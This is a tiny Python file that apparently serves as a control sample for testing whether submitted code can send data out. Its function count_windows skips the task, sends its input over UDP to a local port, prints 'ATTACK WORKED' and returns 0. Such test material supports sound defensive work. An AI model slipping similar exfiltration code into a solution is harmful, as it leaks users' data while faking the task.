"""Send the inputs away.

Control: works
"""

import _socket


def count_windows(m, k):
    sender = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
    sender.sendto(str(m).encode(), ("127.0.0.1", 9))
    print("ATTACK WORKED")
    return 0
